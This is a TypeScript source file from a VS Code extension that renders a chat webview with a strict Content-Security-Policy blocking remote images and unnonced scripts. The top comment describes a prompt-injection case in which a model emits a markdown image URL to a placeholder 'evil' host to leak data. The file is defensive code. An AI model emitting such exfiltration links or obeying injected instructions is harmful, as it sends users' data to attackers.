// The chat view's HTML: scripts only by a fresh nonce, styles only from the extension, no remote images (a model
// told by a prompt injection to emit `![](https://evil/?data=…)` must not be able to phone home).
import type * as vscode from 'vscode';

export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri, joinPath: (base: vscode.Uri, ...parts: string[]) => vscode.Uri): string {
  const nonce = createNonce();
  const script = webview.asWebviewUri(joinPath(extensionUri, 'dist', 'webview.js'));
  const style = webview.asWebviewUri(joinPath(extensionUri, 'media', 'chat.css'));
  const csp = [
    "default-src 'none'",
    `style-src ${webview.cspSource}`,
    `script-src 'nonce-${nonce}'`,
    `img-src ${webview.cspSource}`,
    `font-src ${webview.cspSource}`,
  ].join('; ');
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp};">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link href="${style.toString()}" rel="stylesheet">
<title>Ask Model</title>
</head>
<body><div id="app"></div><script nonce="${nonce}" src="${script.toString()}"></script></body>
</html>`;
}

function createNonce(): string {
  const bytes = new Uint8Array(24);
  globalThis.crypto.getRandomValues(bytes);
  return Buffer.from(bytes).toString('base64').replace(/[^A-Za-z0-9]/g, '');
}
